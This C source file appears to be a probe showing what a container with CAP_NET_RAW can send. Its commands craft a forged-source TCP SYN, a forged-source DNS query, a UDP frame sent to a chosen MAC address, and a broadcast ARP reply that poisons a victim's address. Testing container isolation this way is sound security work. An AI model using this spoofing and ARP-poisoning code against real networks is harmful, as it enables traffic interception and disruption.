// What a container may send that has CAP_NET_RAW: packets with another's source address, and frames to a link-layer
// address of its choice, past its routes. Each command sends one packet and says "sent".
//
//   attack syn SOURCE TARGET PORT                    a TCP SYN
//   attack query SOURCE TARGET NAME                  a DNS question, type A, to port 53
//   attack frame LINK MAC SOURCE TARGET PORT         a UDP datagram in a frame to that link-layer address
//   attack arp LINK VICTIM                           "I have the address of the victim", to everybody
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static unsigned char packet[1500];

static void need(int fine, const char *what) {
    if (!fine) {
        perror(what);
        exit(1);
    }
}

// Internet checksum (RFC 1071), of whole 16-bit words.
static unsigned short sum(const void *from, size_t length, unsigned long start) {
    const unsigned char *byte = from;
    for (size_t at = 0; at < length; at += 2)
        start += (unsigned long)byte[at] << 8 | (at + 1 < length ? byte[at + 1] : 0);
    while (start >> 16)
        start = (start & 0xffff) + (start >> 16);
    return htons((unsigned short)~start);
}

// Fills the IP header and the checksum at `check` of what follows it; returns the length of all.
static size_t wrap(const char *source, const char *target, int protocol, size_t payload, unsigned short *check) {
    struct iphdr *ip = (struct iphdr *)packet;
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->id = htons((unsigned short)getpid());
    ip->protocol = (unsigned char)protocol;
    ip->tot_len = htons((unsigned short)(sizeof *ip + payload));
    need(inet_pton(AF_INET, source, &ip->saddr) == 1, "source");
    need(inet_pton(AF_INET, target, &ip->daddr) == 1, "target");
    ip->check = sum(ip, sizeof *ip, 0);
    unsigned long pseudo = (unsigned long)protocol + payload;
    const unsigned char *ends = (const unsigned char *)&ip->saddr;
    for (int at = 0; at < 8; at += 2)
        pseudo += (unsigned long)ends[at] << 8 | ends[at + 1];
    *check = sum(ip + 1, payload, pseudo);
    return sizeof *ip + payload;
}

static size_t datagram(const char *source, const char *target, int port, size_t data) {
    struct udphdr *udp = (struct udphdr *)(packet + sizeof(struct iphdr));
    udp->source = htons(40000);
    udp->dest = htons((unsigned short)port);
    udp->len = htons((unsigned short)(sizeof *udp + data));
    return wrap(source, target, IPPROTO_UDP, sizeof *udp + data, &udp->check);
}

// By the routes of this container.
static void send_routed(size_t length, const char *target) {
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    need(raw >= 0, "raw socket");
    struct sockaddr_in to = {.sin_family = AF_INET};
    need(inet_pton(AF_INET, target, &to.sin_addr) == 1, "target");
    need(sendto(raw, packet, length, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)length, "send");
}

static void send_frame(const char *link, const unsigned char *mac, int protocol, size_t length) {
    int raw = socket(AF_PACKET, SOCK_DGRAM, htons((unsigned short)protocol));
    need(raw >= 0, "packet socket");
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons((unsigned short)protocol), .sll_halen = 6};
    to.sll_ifindex = (int)if_nametoindex(link);
    memcpy(to.sll_addr, mac, 6);
    need(sendto(raw, packet, length, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)length, "send");
}

static void own_mac(const char *link, unsigned char *mac) {
    struct ifreq asked = {0};
    strncpy(asked.ifr_name, link, IFNAMSIZ - 1);
    need(ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCGIFHWADDR, &asked) == 0, "link");
    memcpy(mac, asked.ifr_hwaddr.sa_data, 6);
}

int main(int count, char **word) {
    unsigned char *body = packet + sizeof(struct iphdr);
    if (count == 5 && !strcmp(word[1], "syn")) {
        struct tcphdr *tcp = (struct tcphdr *)body;
        tcp->source = htons(40000);
        tcp->dest = htons((unsigned short)atoi(word[4]));
        tcp->doff = 5;
        tcp->syn = 1;
        tcp->window = htons(1024);
        send_routed(wrap(word[2], word[3], IPPROTO_TCP, sizeof *tcp, &tcp->check), word[3]);
    } else if (count == 5 && !strcmp(word[1], "query")) {
        unsigned char *at = body + sizeof(struct udphdr);
        memcpy(at, "\x4e\x47\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
        at += 12;
        for (char *label = strtok(word[4], "."); label; label = strtok(NULL, ".")) {
            *at++ = (unsigned char)strlen(label);
            memcpy(at, label, strlen(label));
            at += strlen(label);
        }
        memcpy(at, "\x00\x00\x01\x00\x01", 5);
        at += 5;
        size_t data = (size_t)(at - body) - sizeof(struct udphdr);
        send_routed(datagram(word[2], word[3], 53, data), word[3]);
    } else if (count == 7 && !strcmp(word[1], "frame")) {
        memcpy(body + sizeof(struct udphdr), "secret", 6);
        struct ether_addr *mac = ether_aton(word[3]);
        need(mac != NULL, "link-layer address");
        send_frame(word[2], mac->ether_addr_octet, ETHERTYPE_IP, datagram(word[4], word[5], atoi(word[6]), 6));
    } else if (count == 4 && !strcmp(word[1], "arp")) {
        unsigned char everybody[6] = {255, 255, 255, 255, 255, 255}, mac[6];
        own_mac(word[2], mac);
        memcpy(packet, "\x00\x01\x08\x00\x06\x04\x00\x02", 8);
        memcpy(packet + 8, mac, 6);
        need(inet_pton(AF_INET, word[3], packet + 14) == 1, "victim");
        memcpy(packet + 18, everybody, 6);
        memcpy(packet + 24, packet + 14, 4);
        send_frame(word[2], everybody, ETHERTYPE_ARP, 28);
    } else {
        return 2;
    }
    puts("sent");
    return 0;
}
